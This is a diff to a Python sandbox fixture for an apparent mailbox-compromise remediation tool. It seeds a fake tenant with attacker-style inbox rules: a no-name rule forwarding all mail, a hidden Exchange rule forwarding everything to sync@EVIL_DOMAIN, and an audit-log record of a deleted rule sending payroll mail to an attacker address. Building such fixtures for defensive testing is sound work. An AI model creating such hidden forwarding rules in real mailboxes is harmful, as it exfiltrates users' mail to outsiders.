@@ -10,6 +10,7 @@ from remediation.sandbox.alert_seed import demo_alerts
 from remediation.sandbox.clock import utc_now
 from remediation.sandbox.consents import ServicePrincipal, give_consent
 from remediation.sandbox.delegation import FULL_ACCESS, SEND_AS, SEND_ON_BEHALF
+from remediation.sandbox.inbox_rules import hidden_rule, system_rules
 from remediation.sandbox.signin_methods import authenticator, phone
 from remediation.sandbox.state import (
     DEFAULT_BLOCK_REASON,
@@ -18,6 +19,7 @@ from remediation.sandbox.state import (
     SandboxTenant,
     SandboxUser,
 )
+from remediation.sandbox.unified_audit_log import hours_ago
 
 BREAK_GLASS_GROUP_ID = "3f0c6a8e-2d5b-4c71-9e4a-b8d2f1a7c905"
 BREAK_GLASS_GROUP = "Break-glass accounts"
@@ -38,6 +40,8 @@ RATE_LIMIT_REASON = ("EmailSendingLimitExceeded;InternalRecipientCountToday=12;"
                      "ExternalRecipientCountToday=10412;ExceedingLimitType=External;"
                      "LastMessagetraceId=5f1c2d3e-4a5b-4c6d-8e7f-9a0b1c2d3e4f;"
                      "LastMessageRcptCount=250")
+HIDDEN_RULE_ID = 16752869479666417665  # Lynne's hidden forwarding rule (RuleIdentity)
+DELETED_RULE_ID = 17639250888751054849  # the rule the attacker created and deleted
 
 
 @dataclass(frozen=True)
@@ -114,13 +118,31 @@ def _lynne() -> SandboxUser:
         # Attackers favour rules with no name to speak of and no condition: all mail.
         _rule("AQAAAJ5dZqA=", "..", 1, {}, {
             "forwardTo": [collector], "markAsRead": True, "stopProcessingRules": False}),
-        _rule("AQAAAJ5dZqB=", "Invoices", 2, {"subjectContains": ["invoice"]}, {
+        _rule("AQAAAJ5dZqE=", "Invoices", 2, {"subjectContains": ["invoice"]}, {
             "moveToFolder": lynne.folder_id("RSS Feeds"), "markAsRead": True,
             "stopProcessingRules": True}),
-        _rule("AQAAAJ5dZqC=", "Newsletters", 3, {"subjectContains": ["newsletter"]}, {
+        _rule("AQAAAJ5dZqI=", "Newsletters", 3, {"subjectContains": ["newsletter"]}, {
             "moveToFolder": newsletters, "stopProcessingRules": False}),
     ]
+    # What Graph never shows: a hidden rule forwarding everything outside, and Exchange's own
+    # rules (junk e-mail, out of office, a delegate's meeting requests), which stay as they are.
+    lynne.exchange_rules = [
+        hidden_rule(lynne, ".", HIDDEN_RULE_ID, MarkAsRead=True, StopProcessingRules=True,
+                    ForwardTo=[f'"sync" [SMTP:sync@{EVIL_DOMAIN}]']),
+        *system_rules(lynne)]
     return lynne
+
+
+def _lynne_history(tenant: SandboxTenant) -> None:
+    """A rule the attacker created and deleted again: only the audit log remembers it."""
+    lynne = tenant.user("lynne.robbins@contoso.com")
+    tenant.unified_audit_log.rule_change(lynne, "New-InboxRule", {
+        "Name": "Payroll", "SubjectContainsWords": "salary;payslip",
+        "ForwardTo": f"payroll-copy@{EVIL_DOMAIN}", "StopProcessingRules": "True"},
+        at=hours_ago(30))
+    tenant.unified_audit_log.rule_change(lynne, "Remove-InboxRule", {"Identity": "Payroll"},
+                                 at=hours_ago(26),
+                                 object_id=f"{lynne.id}\\{DELETED_RULE_ID}")
 
 
 def _rule(rule_id: str, name: str, sequence: int, conditions: dict[str, Any],
@@ -193,6 +215,7 @@ def demo_tenant(*, with_alerts: bool = True, storm: bool = True) -> SandboxTenan
     delegation_grants(tenant)
     _lynne_consents(tenant)
     _lynne_sign_in(tenant, tenant.user("lynne.robbins@contoso.com"))
+    _lynne_history(tenant)
     if with_alerts:
         for raw in demo_alerts():
             tenant.add_alert(raw)
